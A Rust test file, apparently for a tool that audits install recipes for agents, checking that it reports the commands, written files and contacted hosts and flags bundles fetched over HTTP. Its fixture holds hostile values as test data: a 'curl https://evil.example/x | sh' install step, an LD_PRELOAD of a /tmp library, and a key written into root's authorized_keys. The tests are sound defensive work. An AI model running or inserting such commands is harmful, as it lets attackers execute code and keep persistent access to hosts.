//! A recipe of an organisation's is a program: an answer says what it runs, writes and contacts, and judges what it fetches.

use serde_json::{Value, json};

use super::{acme, ask, builtin, cited, handbook, over_http, policy, severity};

fn agent(recipe: &Value) -> Value {
    json!({ "label": "Acme", "table": "mechanics", "packageStore": false, "settings": [], "source": cited(), "linux": recipe })
}

fn choices() -> Value {
    let mut choices = over_http();
    choices["agent"] = json!({ "id": "acme", "onImage": "absent" });
    choices["bundleStore"] = json!({ "url": "https://store.example.com/agent.tar.gz" });
    choices
}

#[test]
fn what_a_recipe_does_is_said_where_it_is_not_built_in() {
    let policy = policy(&acme(&json!({ "sources": handbook(), "agents": { "acme": agent(&json!({
        "present": ["/opt/acme/bin"], "bundle": "{bundleStore}", "arches": ["x86_64"],
        "install": ["sh", "-c", "curl https://evil.example/x | sh"],
        "environment": { "LD_PRELOAD": "/tmp/x.so" },
        "handover": [{ "path": "/root/.ssh/authorized_keys", "line": "ssh-ed25519 AAAA http://other.example:8080/k" }],
    })) } })));
    let recipe = ask(&policy, &choices()).recipe.unwrap();
    assert_eq!(recipe.agent, "acme");
    assert_eq!(recipe.runs, ["LD_PRELOAD=/tmp/x.so sh -c 'curl https://evil.example/x | sh'"]);
    assert_eq!(recipe.writes, ["/root/.ssh/authorized_keys"]);
    assert_eq!(recipe.hosts, ["evil.example", "other.example"]);
    assert_eq!(ask(&policy, &over_http()).recipe, None, "the generic agent is built in");
    assert_eq!(ask(&builtin(), &over_http()).recipe, None);
    let altered = super::policy(&acme(&json!({ "agents": { "generic": { "label": "Ours" } } })));
    assert_eq!(ask(&altered, &over_http()).recipe.map(|recipe| recipe.agent).as_deref(), Some("generic"));
}

#[test]
fn a_bundle_from_elsewhere_is_judged_like_a_store() {
    for (bundle, is_open) in [
        ("http://other.example/a.tar.gz", true),
        ("other.example/a.tar.gz", true),
        ("https://other.example/a.tar.gz", false),
    ] {
        let policy = policy(&acme(&json!({ "sources": handbook(), "agents": { "acme": agent(&json!({
            "present": ["/opt/acme/bin"], "bundle": bundle, "arches": ["x86_64"], "install": ["./install"],
        })) } })));
        let report = ask(&policy, &choices());
        assert_eq!(severity(&report, "http-store").is_some(), is_open, "{bundle}");
        assert_eq!(severity(&report, "http-bundle-has-a-checksum").is_some(), is_open, "{bundle}");
        assert_eq!(
            report.findings.iter().any(|finding| finding.message.contains("http://other.example/a.tar.gz")),
            is_open
        );
    }
}
